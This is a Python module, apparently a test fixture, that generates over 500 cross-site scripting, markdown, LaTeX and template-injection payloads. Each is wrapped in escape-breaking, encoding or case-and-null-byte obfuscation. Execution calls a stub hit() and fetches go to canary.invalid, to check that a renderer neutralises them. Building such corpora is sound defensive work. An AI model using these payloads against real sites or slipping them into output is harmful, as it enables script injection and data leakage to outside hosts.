"""Words that would do harm if anything took them for more than words: 500 and more.

Each kind, as it stands and in what could carry it past an escape. What runs calls
`hit()`; what is fetched goes to canary.invalid.
"""

from __future__ import annotations

import html
from urllib.parse import quote

AWAY = "http://canary.invalid/x"

ACTIVE = (
    "<script>hit()</script>",
    f"<script src={AWAY}.js></script>",
    "<img src=x onerror=hit()>",
    f"<img src={AWAY}.png>",
    "<svg onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    f"<video poster={AWAY}.png src={AWAY}.mp4 autoplay></video>",
    f"<style>@import '{AWAY}.css'; * {{ background: url({AWAY}.gif) }}</style>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    f"<p style='background:url({AWAY}.gif)'>x</p>",
    "<a href=javascript:hit() autofocus onfocus=hit()>x</a>",
    f"![x]({AWAY}.png)",
    f"![x][r]\n\n[r]: {AWAY}.png",
    "[x](javascript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    f"<{AWAY}>",
    "$$\\href{javascript:hit()}{x}$$",
    f"$$\\includegraphics{{{AWAY}.png}}$$",
    "```mermaid\ngraph TD; A-->B; click A call hit()\n```",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "<%= hit() %>",
)
CARRIERS = (
    lambda p: p,
    lambda p: f'">{p}',
    lambda p: f"'>{p}",
    lambda p: f"</textarea></title></style></script>{p}",
    lambda p: f"-->{p}<!--",
    lambda p: f"]]>{p}",
    lambda p: f"`{p}",
    lambda p: f"\n\n{p}\n\n",
    lambda p: f"\n    {p}",
    lambda p: f"| a |\n|---|\n| {p} |",
    lambda p: html.escape(p),
    lambda p: quote(p),
    lambda p: p.replace("<", "<\0").replace("script", "scr\0ipt"),
    lambda p: p.replace("script", "ScRiPt").replace("img", "IMG"),
    lambda p: p.replace("<", "\\u003c"),
    lambda p: f"[[1]](#cite-0-1) {p}",
)
PAYLOADS = tuple(carry(active) for active in ACTIVE for carry in CARRIERS)
